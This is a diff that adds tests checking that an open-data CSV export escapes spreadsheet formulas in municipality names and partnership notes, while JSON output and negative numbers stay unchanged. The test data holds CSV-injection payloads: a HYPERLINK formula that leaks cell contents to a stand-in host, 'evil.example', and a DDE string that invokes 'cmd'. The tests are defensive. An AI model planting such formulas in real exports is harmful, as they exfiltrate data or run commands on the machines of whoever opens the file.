@@ -87,3 +87,30 @@ def test_datapackage_describes_every_csv_column_with_its_type_and_licence(client
                 CASTS[field["type"]](cell)
                 if "constraints" in field:
                     assert cell in field["constraints"]["enum"]
+
+
+HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
+
+
+def test_open_data_csv_neutralises_formulas_but_keeps_negative_numbers(client):
+    PartnershipFactory(
+        municipality_a__name_en=HOSTILE,
+        municipality_b__name_en="@SUM(1+1)",
+        municipality_b__longitude=-3.7,
+    )
+    body = b"".join(client.get(_url("municipalities", "csv")).streaming_content).decode()
+    rows = list(csv.DictReader(io.StringIO(body)))
+    names = {row["name_en"] for row in rows}
+    assert names == {"'" + HOSTILE, "'@SUM(1+1)"}
+    town = next(row for row in rows if row["name_en"] == "'@SUM(1+1)")
+    assert town["longitude"] == "-3.70000"
+    # The JSON is no spreadsheet: its names stay as they are.
+    items = json.loads(b"".join(client.get(_url("municipalities", "json")).streaming_content))
+    assert HOSTILE in {item["name_en"] for item in items["items"]}
+
+
+def test_open_data_csv_of_partnerships_neutralises_its_text(client):
+    PartnershipFactory(source_note="-2+3+cmd|' /C calc'!A0")
+    body = b"".join(client.get(_url("partnerships", "csv")).streaming_content).decode()
+    (row,) = csv.DictReader(io.StringIO(body))
+    assert row["source_note"] == "'-2+3+cmd|' /C calc'!A0"
